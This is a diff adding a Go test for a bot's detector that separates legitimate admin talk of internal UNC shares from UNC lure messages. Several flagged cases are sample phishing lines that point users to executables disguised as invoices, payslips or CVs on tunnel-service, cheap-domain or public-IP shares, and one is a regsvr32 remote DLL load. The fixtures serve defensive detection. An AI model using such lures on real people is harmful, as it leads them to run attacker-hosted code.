@@ -1,0 +1,30 @@
+package bot_test
+
+import "testing"
+
+// TestRev48dUNCAdminTalk: a Windows administrator's talk of the
+// company's own shares — Active Directory, DFS, SCCM and SharePoint
+// hosts under the company's domain, a Tailscale address, a
+// documentation address, home.arpa, and a path escaped as code writes
+// it (C:\\inetpub\\wwwroot\\shop.example.com\\…) — is no UNC lure, while a
+// share on a tunnel service's host, on a cheap ending, on a public
+// address, or any share whose file's name hides a program, is (rev48d).
+func TestRev48dUNCAdminTalk(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{`run msiexec /i \\deploy01.ad.contoso.com\software\7zip.msi /qn from an elevated prompt`, false},
+		{`map it with net use Z: \\fileserver.corp.example.com\share /persistent:yes`, false},
+		{`GPO runs \\corp.contoso.com\SYSVOL\corp.contoso.com\scripts\logon.vbs at login`, false},
+		{`the installer lives at \\files.hanoi-office.vn\it\setup.exe, ask IT if you can't reach it`, false},
+		{`json: {"path": "\\\\nas.home.arpa\\media\\vlc.exe"}`, false},
+		{`{"root": "C:\\inetpub\\wwwroot\\shop.example.com\\bin\\App.dll"}`, false},
+		{`set PATH=C:\\apps\\notepad.plus\\np.exe in the config`, false},
+		{`Tailscale share: \\100.101.102.103\media\setup.exe works from my laptop`, false},
+		{`documentation example: \\198.51.100.20\share\tool.exe`, false},
+		{`open \\quiet-lake-77.trycloudflare.com@SSL\DavWWWRoot\Invoice.pdf.lnk to see the invoice`, true},
+		{`run \\abc123.ngrok-free.app@SSL\dav\Payslip.exe to view your payslip`, true},
+		{`open \\invoice-docs.com@SSL\DavWWWRoot\Invoice.pdf.lnk now`, true},
+		{`regsvr32 /s /i \\payroll-update.xyz\share\verify.dll`, true},
+		{`your CV review: \\\\185.143.223.9\\share\\CV_Review.docx.lnk`, true},
+	})
+}
